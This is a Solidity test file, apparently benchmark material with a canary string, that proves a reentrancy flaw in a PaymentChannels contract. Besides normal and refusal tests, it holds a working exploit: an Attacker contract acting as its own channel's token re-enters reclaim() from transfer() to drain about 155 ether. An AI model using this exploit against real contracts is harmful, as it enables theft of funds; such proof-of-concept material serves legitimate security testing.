pragma solidity 0.4.26;

import "./PaymentChannels.sol";

// assay-canary-0cc85707-4c2c-4135-8b02-fe972e267fb6

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert() external;
}

contract Coin is Token {
    address private maker = msg.sender;
    bool private off;

    /// While it is off, it answers no.
    function turn(bool off_) public {
        require(msg.sender == maker, "maker only");
        off = off_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) public {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        if (off) return false;
        require(balanceOf[msg.sender] >= amount);
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        if (off) return false;
        require(balanceOf[from] >= amount);
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant PAYER = address(0x115);
    address constant PAYEE = address(0x9E2);

    PaymentChannels internal channels;
    Coin internal coin;
    Attacker internal mallory;
    bytes32 internal honest;

    function setUp() public {
        vm.warp(1538000000);
        channels = new PaymentChannels();
        coin = new Coin();
        coin.mint(PAYER, 500);
        vm.deal(PAYER, 170 ether);
        vm.prank(PAYER);
        honest = channels.openChannel.value(160 ether)(PAYEE, coin, 400, 30 days);
        mallory = new Attacker(channels);
        vm.deal(address(mallory), 5 ether);
    }

    function test_Regular() public {
        require(coin.balanceOf(channels) == 400);
        require(!address(channels).call(abi.encodeWithSignature("joinChannel(bytes32,uint64)", honest, uint64(1 days))));
        vm.prank(PAYEE);
        channels.joinChannel(honest, 1 days);
        vm.prank(PAYEE);
        channels.proposeSplit(honest, 60 ether, 100);
        vm.prank(PAYER);
        channels.proposeSplit(honest, 50 ether, 100);
        require(PAYEE.balance == 0);
        vm.prank(PAYER);
        channels.proposeSplit(honest, 60 ether, 100);
        require(PAYEE.balance == 60 ether && PAYER.balance == 110 ether);
        require(coin.balanceOf(PAYEE) == 100 && coin.balanceOf(PAYER) == 400);
        require(address(channels).balance == 0);

        vm.prank(PAYER);
        bytes32 id = channels.openChannel.value(10 ether)(PAYEE, coin, 50, 2 hours);
        require(id != honest);
        vm.prank(PAYER);
        require(!address(channels).call(abi.encodeWithSignature("reclaim(bytes32)", id)));
        vm.warp(1538000000 + 3 hours);
        require(!address(channels).call(abi.encodeWithSignature("reclaim(bytes32)", id)));
        vm.prank(PAYER);
        channels.reclaim(id);
        require(PAYER.balance == 110 ether && coin.balanceOf(PAYER) == 400);
        vm.prank(PAYER);
        require(!address(channels).call(abi.encodeWithSignature("reclaim(bytes32)", id)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// Channels are for somebody else, for a while, and of something.
    function test_RefusesOpening() public {
        refuses(PAYER);
        channels.openChannel.value(1 ether)(address(0), coin, 0, 1 days);
        refuses(PAYER);
        channels.openChannel.value(1 ether)(PAYER, coin, 0, 1 days);
        refuses(PAYER);
        channels.openChannel.value(1 ether)(PAYEE, coin, 0, 1 hours - 1);
        refuses(PAYER);
        channels.openChannel.value(1 ether)(PAYEE, coin, 0, 60 days + 1);
        refuses(PAYER);
        channels.openChannel(PAYEE, coin, 0, 1 days);
        vm.prank(PAYER);
        channels.openChannel.value(1 ether)(PAYEE, coin, 0, 1 days);
        vm.prank(PAYER);
        channels.openChannel(PAYEE, coin, 10, 1 days);
        coin.turn(true);
        refuses(PAYER);
        channels.openChannel(PAYEE, coin, 10, 1 days);
    }

    /// A channel is joined in time, once, and split between the two of it.
    function test_RefusesSplits() public {
        refuses(PAYEE);
        channels.proposeSplit(honest, 0, 0);
        refuses(PAYEE);
        channels.joinChannel(honest, 1 hours - 1);
        refuses(PAYEE);
        channels.joinChannel(honest, 60 days + 1);
        vm.prank(PAYEE);
        channels.joinChannel(honest, 1 days);
        refuses(PAYEE);
        channels.joinChannel(honest, 1 days);
        vm.expectRevert();
        channels.proposeSplit(honest, 0, 0);
        refuses(PAYEE);
        channels.proposeSplit(honest, 160 ether + 1, 0);
        refuses(PAYEE);
        channels.proposeSplit(honest, 0, 401);
        vm.warp(now + 2 days);
        coin.turn(true);
        refuses(PAYER);
        channels.reclaim(honest);
        refuses(address(0));
        channels.reclaim(bytes32(1));
    }

    /// A channel that is over is not joined any more.
    function test_RefusesLatePayees() public {
        vm.warp(now + 30 days + 1);
        refuses(PAYEE);
        channels.joinChannel(honest, 1 days);
    }

    function exploit() public {
        mallory.open();
        vm.warp(1538000000 + 2 hours);
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 155 ether);
    }

    function target() public view returns (address) {
        return address(channels);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Payer, and token of its own channel: reclaims it again whenever it is told to pay itself tokens.
contract Attacker {
    PaymentChannels internal channels;
    bytes32 internal id;

    constructor(PaymentChannels channels_) public {
        channels = channels_;
    }

    function () external payable {}

    function open() external {
        id = channels.openChannel.value(5 ether)(address(1), this, 1, 1 hours);
    }

    function run() external {
        channels.reclaim(id);
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256) external returns (bool) {
        if (address(channels).balance >= 5 ether) channels.reclaim(id);
        return true;
    }
}
